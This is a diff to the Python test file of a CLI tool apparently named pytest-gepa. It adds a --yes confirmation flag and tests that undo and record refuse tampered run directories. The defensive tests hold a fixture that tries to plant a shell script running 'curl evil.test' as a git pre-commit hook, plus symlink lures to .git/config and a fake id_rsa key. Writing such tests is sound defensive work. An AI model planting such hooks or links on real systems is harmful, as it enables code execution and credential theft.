@@ -73,9 +73,9 @@ def test_apply_writes_the_texts_and_undo_brings_back_every_byte(
     assert "\x1b" not in said
     assert "prompts/a.md: 2 lines added, 2 removed" in said
     assert f"`pytest-gepa undo {RUN}` takes it back" in said
-    assert main(["undo"]) == 0
+    assert main(["undo", "--yes"]) == 0
     assert contents(project) == before
-    assert main(["undo"]) == 1
+    assert main(["undo", "--yes"]) == 1
     assert "no run is applied" in capsys.readouterr().err
 
 
@@ -109,7 +109,7 @@ def test_whatever_the_bytes_are_apply_and_undo_are_exact(
         assert {path: (root / path).read_bytes() for path in files} == {
             p: new for p, (_, new) in files.items()
         }
-        assert main(["undo", "--rootdir", place]) == 0
+        assert main(["undo", "--yes", "--rootdir", place]) == 0
         assert contents(root) == before
     capsys.readouterr()
 
@@ -130,6 +130,11 @@ def test_without_a_terminal_nothing_is_asked_and_nothing_changed(
     assert main(["apply"]) == 1
     assert contents(project) == before
     assert "no terminal to ask at; --yes applies it" in capsys.readouterr().out
+    assert main(["apply", "--yes"]) == 0
+    after = contents(project)
+    assert main(["undo"]) == 1
+    assert contents(project) == after
+    assert "no terminal to ask at; --yes takes it back" in capsys.readouterr().out
 
 
 @pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
@@ -140,11 +145,30 @@ def test_without_a_terminal_nothing_is_asked_and_nothing_changed(
 def test_at_a_terminal_it_asks_and_no_is_the_default(
     project: Path, answer: bytes, code: int, after: bytes
 ) -> None:
+    said = at_a_terminal(project, "apply", answer, code)
+    assert b"-two" in said
+    assert (project / "prompts/a.md").read_bytes() == after
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="needs a pseudo-terminal")
+@pytest.mark.parametrize(("answer", "code", "after"), [(b"y\n", 0, OLD), (b"\n", 1, NEW)])
+def test_so_does_undo_and_shows_what_it_will_change(
+    project: Path, answer: bytes, code: int, after: bytes
+) -> None:
+    assert main(["apply", "--yes"]) == 0
+    said = at_a_terminal(project, "undo", answer, code)
+    assert b"+two" in said
+    assert b"-2" in said
+    assert (project / "prompts/a.md").read_bytes() == after
+
+
+def at_a_terminal(project: Path, command: str, answer: bytes, code: int) -> bytes:
+    """What a command says that is asked for at a terminal, given this answer and ending with this code."""
     import pty  # POSIX only
 
     leader, follower = pty.openpty()
-    command = [sys.executable, "-m", "pytest_gepa.cli", "apply"]
-    process = subprocess.Popen(command, cwd=project, stdin=follower, stdout=follower, stderr=follower)
+    arguments = [sys.executable, "-m", "pytest_gepa.cli", command]
+    process = subprocess.Popen(arguments, cwd=project, stdin=follower, stdout=follower, stderr=follower)
     os.close(follower)
     said = b""
     while b"[y/N]" not in said:
@@ -157,7 +181,7 @@ def test_at_a_terminal_it_asks_and_no_is_the_default(
         pass  # the other side has gone
     os.close(leader)
     assert process.wait() == code, said
-    assert (project / "prompts/a.md").read_bytes() == after
+    return said
 
 
 def test_a_file_that_has_changed_since_the_run_is_left_alone(
@@ -174,11 +198,11 @@ def test_a_file_that_has_changed_since_the_run_is_left_alone(
 def test_undo_leaves_what_was_written_since(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
     main(["apply", "--yes"])
     (project / "prompts/a.md").write_bytes(NEW + b"mine")
-    assert main(["undo"]) == 1
+    assert main(["undo", "--yes"]) == 1
     assert (project / "prompts/a.md").read_bytes() == NEW + b"mine"
     assert "was changed since the patch was applied" in capsys.readouterr().err
     (project / "prompts/a.md").write_bytes(NEW)
-    assert main(["undo", RUN]) == 0
+    assert main(["undo", RUN, "--yes"]) == 0
     assert (project / "prompts/a.md").read_bytes() == OLD
 
 
@@ -191,7 +215,7 @@ def test_to_apply_twice_or_to_undo_what_is_undone_changes_nothing(
     assert contents(project) == after
     assert "have these texts already" in capsys.readouterr().out
     (project / "prompts/a.md").write_bytes(OLD)  # by hand, or with git
-    assert main(["undo"]) == 0
+    assert main(["undo", "--yes"]) == 0
     assert (project / "prompts/a.md").read_bytes() == OLD
 
 
@@ -200,7 +224,7 @@ def test_undo_takes_the_run_that_was_applied_last(project: Path) -> None:
     for run, at in (("2026-11-24-2", 1), (RUN, 2)):
         main(["apply", run, "--yes"])
         os.utime(project / ".gepa/runs" / run / write_back.KEPT, (at, at))
-    main(["undo"])
+    main(["undo", "--yes"])
     assert (project / "prompts/a.md").read_bytes() == OLD
     assert (project / "prompts/b.md").read_bytes() == b"c\n"
 
@@ -230,10 +254,10 @@ def test_undo_takes_back_all_candidates_of_a_run_that_were_applied(project: Path
     assert main(["apply", "--candidate", "abc123", "--yes"]) == 0
     assert main(["apply", "--yes"]) == 0
     assert (project / "prompts/a.md").read_bytes() == NEW
-    assert main(["undo"]) == 0
+    assert main(["undo", "--yes"]) == 0
     assert (project / "prompts/a.md").read_bytes() == OLD
     assert (project / "prompts/b.md").read_bytes() == b"b\n"
-    assert main(["undo"]) == 1
+    assert main(["undo", "--yes"]) == 1
 
 
 def test_what_could_not_be_applied_is_not_what_undo_takes_back(
@@ -244,7 +268,7 @@ def test_what_could_not_be_applied_is_not_what_undo_takes_back(
     with monkeypatch.context() as patch:
         patch.setattr(os, "access", lambda path, mode: False)
         assert main(["apply", "2026-11-24-2", "--yes"]) == 1
-    assert main(["undo"]) == 0
+    assert main(["undo", "--yes"]) == 0
     assert (project / "prompts/a.md").read_bytes() == OLD
 
 
@@ -267,7 +291,7 @@ def test_what_could_not_be_put_back_can_be_undone_later(
     monkeypatch.undo()
     assert "a.md could not be put back, undo it later" in capsys.readouterr().err
     assert (project / "prompts/a.md").read_bytes() == NEW
-    assert main(["undo", "--rootdir", str(project)]) == 0
+    assert main(["undo", "--yes", "--rootdir", str(project)]) == 0
     assert (project / "prompts/a.md").read_bytes() == OLD
     assert (project / "prompts/b.md").read_bytes() == b"b\n"
 
@@ -303,7 +327,7 @@ def test_mode_and_links_stay_as_they_were(project: Path) -> None:
     assert file.read_bytes() == NEW
     assert stat.S_IMODE(file.stat().st_mode) == 0o640
     os.link(file, project / "second name.md")
-    assert main(["undo"]) == 0
+    assert main(["undo", "--yes"]) == 0
     assert (project / "second name.md").read_bytes() == OLD
     assert stat.S_IMODE(file.stat().st_mode) == 0o640
     assert sorted(path.name for path in file.parent.iterdir()) == ["a.md"]
@@ -334,16 +358,48 @@ def test_a_tampered_record_of_what_was_before_is_refused(
     for path in ("../outside.md", str(tmp_path / "outside.md")):
         (tmp_path / "outside.md").write_bytes(NEW)
         (kept / "applied.json").write_text(json.dumps([{**entry, "path": path}]))
-        assert main(["undo"]) == 1
+        assert main(["undo", "--yes"]) == 1
         assert "outside of the project" in capsys.readouterr().err
         assert (tmp_path / "outside.md").read_bytes() == NEW
     (kept / "applied.json").write_text(json.dumps([entry]))
     (kept / "0.before").write_bytes(b"other")
-    assert main(["undo"]) == 1
+    assert main(["undo", "--yes"]) == 1
     assert "is damaged" in capsys.readouterr().err
     (kept / "applied.json").write_text("[7]")
-    assert main(["undo"]) == 1
+    assert main(["undo", "--yes"]) == 1
     assert (project / "prompts/a.md").read_bytes() == NEW
+
+
+@pytest.mark.parametrize("path", [".git/hooks/pre-commit", "prompts/x.md", "prompts/a.md"])
+def test_undo_writes_no_file_that_no_patch_of_its_run_has_changed(
+    project: Path, capsys: pytest.CaptureFixture[str], path: str
+) -> None:
+    """A run directory may come from elsewhere, as an artifact of CI."""
+    target = project / path
+    target.parent.mkdir(parents=True, exist_ok=True)
+    target.write_bytes(b"mine\n")
+    evil = b"#!/bin/sh\ncurl evil.test\n"
+    keep = [write_back.NewContent(target, evil, b"mine\n")]
+    write_back.keep_originals(project / ".gepa/runs" / RUN, project, keep)
+    assert main(["undo", "--yes"]) == 1
+    assert target.read_bytes() == b"mine\n"
+    said = capsys.readouterr().err
+    assert ("a file of git's own" if ".git" in path else "no patch of run") in said
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="no links to be had everywhere")
+@pytest.mark.parametrize("name", [".git", ".GIT"])
+def test_a_link_to_a_file_of_gits_own_is_refused(
+    project: Path, capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    (project / name).mkdir()
+    (project / name / "config").write_bytes(OLD)
+    (project / "prompts/x.md").symlink_to(f"../{name}/config")
+    patch = project / ".gepa/runs" / RUN / "best.patch"
+    patch.write_bytes(make_patch([FileChange("prompts/x.md", OLD, NEW)], []))
+    assert main(["apply", "--yes"]) == 1
+    assert "a file of git's own" in capsys.readouterr().err
+    assert (project / name / "config").read_bytes() == OLD
 
 
 def test_paths_of_a_patch_may_be_relative_to_a_directory_above(tmp_path: Path) -> None:
@@ -535,3 +591,24 @@ def test_record_overwrites_nothing_that_is_no_recording(
     assert main(["record"]) == 1
     assert "is no recording" in capsys.readouterr().err
     assert (project / "gepa_recording/mine.txt").read_text() == "precious"
+
+
+@pytest.mark.skipif(sys.platform == "win32", reason="no links to be had everywhere")
+@pytest.mark.parametrize("name", ["answers/search-0.jsonl", "more", "."])
+def test_record_follows_no_link_out_of_a_recording(
+    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], name: str
+) -> None:
+    """It may have come as an artifact, and what it leads to on this machine would be committed."""
+    source = recorded(project)
+    elsewhere = tmp_path / "elsewhere"
+    if name == ".":
+        source.rename(elsewhere)
+    else:
+        elsewhere.mkdir()
+    (elsewhere / "id_rsa").write_text("private", encoding="utf-8")
+    place = source / name
+    place.unlink(missing_ok=True)
+    place.symlink_to(elsewhere / "id_rsa" if name.endswith(".jsonl") else elsewhere)
+    assert main(["record"]) == 1
+    assert "but a link or the like" in capsys.readouterr().err
+    assert not (project / "gepa_recording").exists()
